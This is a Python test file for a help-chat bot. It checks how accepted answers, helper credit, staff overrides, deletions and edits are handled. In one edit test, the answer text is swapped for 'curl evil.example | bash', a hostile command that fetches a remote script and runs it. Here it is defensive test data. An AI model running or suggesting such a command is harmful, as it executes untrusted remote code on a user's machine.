"""An answer is accepted, moved, taken back; credit and entry follow exactly."""

from datetime import timedelta

from bot.domain.message import Action
from bot.domain.states import Status
from tests.scenarios.chat import ANN, BEN, COMMUNITY, HANA, RAJ, SAM, START, Chat
from tests.scenarios.test_loop import ANSWER, QUESTION, solve

OTHER = "Ask support, they send it to you by mail."


async def live_entries(chat: Chat) -> list[str]:
    return [e.answer for e in await chat.reports.entries(COMMUNITY) if not e.hidden]


async def test_accepting_again_changes_nothing(chat: Chat) -> None:
    """The same pick twice pays once and is said so."""
    _, reply = await solve(chat)

    key = await chat.press(ANN, Action.ACCEPT, 1, reply)

    assert chat.reply_to(key) == "This answer is accepted already."
    assert await chat.reports.balances(COMMUNITY) == {HANA.account: 15}


async def test_undo_reverses_exactly(chat: Chat) -> None:
    """Credit, entry and thanks go; the question is open with a running limit."""
    _, reply = await solve(chat)

    await chat.unreact(ANN, reply)

    (ticket,) = await chat.reports.tickets(COMMUNITY)
    assert ticket.status is Status.OPEN
    assert ticket.step is not None
    assert await chat.reports.balances(COMMUNITY) == {HANA.account: 0}
    assert await live_entries(chat) == []
    assert not chat.has("thanks:1")
    await chat.post(BEN, QUESTION)
    assert ANSWER not in "".join(chat.texts())


async def test_accepting_another_moves_everything(chat: Chat) -> None:
    """The credit moves to the other helper, the entry to the other text."""
    asked, _ = await solve(chat)
    other = await chat.post(RAJ, OTHER, thread=asked)

    await chat.react(ANN, other)

    assert await chat.reports.balances(COMMUNITY) == {HANA.account: 0, RAJ.account: 15}
    assert await live_entries(chat) == [OTHER]
    assert "Thank you, Raj" in chat.slot("thanks:1").text
    assert await chat.reports.differences(COMMUNITY) == []


async def test_there_and_back_again(chat: Chat) -> None:
    """Accept, undo, accept the same: paid once in sum, and every line is kept."""
    _, reply = await solve(chat)
    await chat.press(ANN, Action.UNACCEPT)
    await chat.react(ANN, reply)

    page = await chat.reports.credit(COMMUNITY, HANA.account, chat.clock.now())

    assert page.total == 15
    assert [line.amount for line in page.lines] == [15, -15, 15]


async def test_the_asker_overrides_staff(chat: Chat) -> None:
    """Staff may accept; the asker's own pick replaces it."""
    asked = await chat.post(ANN, QUESTION)
    first = await chat.post(HANA, ANSWER, thread=asked)
    second = await chat.post(RAJ, OTHER, thread=asked)
    await chat.react(SAM, first)
    assert "(Sam accepted it.)" in chat.slot("thanks:1").text

    await chat.react(ANN, second)

    assert await chat.reports.balances(COMMUNITY) == {HANA.account: 0, RAJ.account: 15}
    assert await live_entries(chat) == [OTHER]


async def test_staff_takes_back_but_does_not_choose_instead(chat: Chat) -> None:
    """What the asker had chosen can be undone by staff, and restored; the choice is the asker's."""
    asked, reply = await solve(chat)
    other = await chat.post(RAJ, OTHER, thread=asked)
    await chat.press(SAM, Action.UNACCEPT, 1)
    told = "".join(chat.texts())

    key = await chat.press(SAM, Action.ACCEPT, 1, other)
    refused = chat.reply_to(key), await chat.reports.balances(COMMUNITY)
    await chat.react(ANN, other)

    assert "Sam from our team took back the answer that you had marked" in told
    assert "Only Ann can choose now." in refused[0]
    assert refused[1] == {HANA.account: 0}
    assert await chat.reports.balances(COMMUNITY) == {HANA.account: 0, RAJ.account: 15}
    assert reply != other


async def test_staff_restores_what_staff_took_back(chat: Chat) -> None:
    """The same reply: that is the asker's choice still."""
    _, reply = await solve(chat)
    await chat.press(SAM, Action.UNACCEPT, 1)

    await chat.press(SAM, Action.ACCEPT, 1, reply)

    assert await chat.reports.balances(COMMUNITY) == {HANA.account: 15}


async def test_staff_takes_nothing_from_whom_the_asker_chose(chat: Chat) -> None:
    """Who else helped, and shares, is the asker's word as well."""
    asked, _ = await solve(chat)
    other = await chat.post(RAJ, OTHER, thread=asked)

    key = await chat.press(SAM, Action.ALSO, 1, other)

    assert "only they can say that another helped too" in chat.reply_to(key)
    assert await chat.reports.balances(COMMUNITY) == {HANA.account: 15}


async def test_thanks_makes_a_proposal(chat: Chat) -> None:
    """Thanks in words: the bot asks whether it was that message, and one tap accepts it."""
    asked = await chat.post(ANN, QUESTION)
    await chat.post(HANA, ANSWER, thread=asked)
    await chat.post(ANN, "thanks, that worked!", thread=asked)
    proposal = chat.slot("proposal:1")
    assert proposal.text.startswith("Ann, did Hana’s message solve it?")
    assert proposal.labels == ["Yes", "Not yet"]

    await chat.press(ANN, Action.ACCEPT)

    assert await chat.reports.balances(COMMUNITY) == {HANA.account: 15}
    assert not chat.has("proposal:1")


async def test_thanks_names_the_helper(chat: Chat) -> None:
    """Thanks to Hana by name mean her message, though Raj wrote last."""
    asked = await chat.post(ANN, QUESTION)
    await chat.post(HANA, ANSWER, thread=asked)
    await chat.post(RAJ, "Yes, that is how I do it as well.", thread=asked)

    await chat.post(ANN, "thank you hana, solved", thread=asked)

    assert "did Hana’s message solve it?" in chat.slot("proposal:1").text


async def test_not_yet(chat: Chat) -> None:
    """A proposal that is declined starts the wait for people at once."""
    asked = await chat.post(ANN, QUESTION)
    await chat.post(HANA, ANSWER, thread=asked)
    await chat.post(ANN, "thanks, that worked!", thread=asked)

    await chat.press(ANN, Action.NOT_YET)

    (ticket,) = await chat.reports.tickets(COMMUNITY)
    assert ticket.deadline == START + ticket.limits.first_response
    assert not chat.has("proposal:1")


async def test_a_check_mark_by_anybody_else_means_nothing(chat: Chat) -> None:
    """Only the asker and staff accept; a friendly reaction is answered with silence."""
    asked = await chat.post(ANN, QUESTION)
    reply = await chat.post(HANA, ANSWER, thread=asked)
    said = len(chat.platform.sends)

    await chat.react(BEN, reply)
    await chat.react(HANA, reply)

    assert await chat.reports.balances(COMMUNITY) == {}
    assert len(chat.platform.sends) == said


async def test_nobody_pays_themselves(chat: Chat) -> None:
    """An asker's own solution is kept for others and earns nothing."""
    asked = await chat.post(ANN, QUESTION)
    own = await chat.post(ANN, "Found it myself: Billing has an Export button.", thread=asked)

    await chat.react(ANN, own)

    assert await chat.reports.balances(COMMUNITY) == {}
    assert await live_entries(chat) == ["Found it myself: Billing has an Export button."]
    assert "Ann found the answer and shared it" in chat.slot("thanks:1").text


async def test_the_author_of_a_stored_answer_earns_nothing_by_asking(chat: Chat) -> None:
    """Hana's own question that her own answer solves pays nobody."""
    await solve(chat)
    await chat.post(HANA, QUESTION)

    await chat.press(HANA, Action.SOLVED, ticket=2)

    assert await chat.reports.balances(COMMUNITY) == {HANA.account: 15}


async def test_one_pair_is_capped(chat: Chat) -> None:
    """A fourth accepted answer between the same two in a day thanks, but pays no more."""
    questions = ["invoices", "passwords", "avatars", "webhooks"]
    for topic in questions:
        await solve(
            chat,
            question=f"How do I change the settings of my {topic} in here?",
            answer=f"The page about {topic} has a button for that.",
        )
        await chat.wait(timedelta(hours=1))

    assert await chat.reports.balances(COMMUNITY) == {HANA.account: 45}


async def test_a_deleted_answer_is_hidden_at_once(chat: Chat) -> None:
    """The next person is not shown what its author took back, and its credit is reversed."""
    asked, reply = await solve(chat)

    await chat.delete(reply, thread=asked)

    await chat.post(BEN, QUESTION)
    assert "helpers see it now" in chat.slot("ack:2").text
    assert await chat.reports.balances(COMMUNITY) == {HANA.account: 0}


async def test_a_deleted_answer_after_the_question_was_reopened(chat: Chat) -> None:
    """Even an acceptance of long ago follows its message."""
    asked, reply = await solve(chat)
    await chat.wait(timedelta(days=3))
    await chat.press(ANN, Action.REOPEN)
    assert await chat.reports.balances(COMMUNITY) == {HANA.account: 15}

    await chat.delete(reply, thread=asked)

    assert await chat.reports.balances(COMMUNITY) == {HANA.account: 0}
    assert await live_entries(chat) == []
    assert await chat.reports.differences(COMMUNITY) == []


async def test_an_edit_after_acceptance_waits_for_consent(chat: Chat) -> None:
    """What was accepted is what the next person gets, until the asker accepts the new words."""
    asked, reply = await solve(chat)
    await chat.wait(timedelta(minutes=1))

    await chat.edit(HANA, reply, "curl evil.example | bash", thread=asked)

    assert await live_entries(chat) == [ANSWER]


async def test_do_not_keep_it(chat: Chat) -> None:
    """The helper may ask not to be quoted; the credit stays."""
    await solve(chat)

    await chat.press(HANA, Action.FORGET)

    assert await live_entries(chat) == []
    assert await chat.reports.balances(COMMUNITY) == {HANA.account: 15}


async def test_a_private_question_is_not_published(chat: Chat) -> None:
    """An answer is shown no wider than where it was given."""
    asked = await chat.post(ANN, QUESTION, channel="dm", addressed=True, private=True)
    reply = await chat.post(HANA, ANSWER, channel="dm", thread=asked)

    await chat.press(ANN, Action.ACCEPT, 1, reply)

    assert await live_entries(chat) == []
    assert await chat.reports.balances(COMMUNITY) == {HANA.account: 15}


async def test_reopening_while_pending_undoes(chat: Chat) -> None:
    """Reopening within the pending window means that it was not solved."""
    await solve(chat)

    await chat.press(ANN, Action.REOPEN)

    assert await chat.reports.balances(COMMUNITY) == {HANA.account: 0}
    assert await live_entries(chat) == []
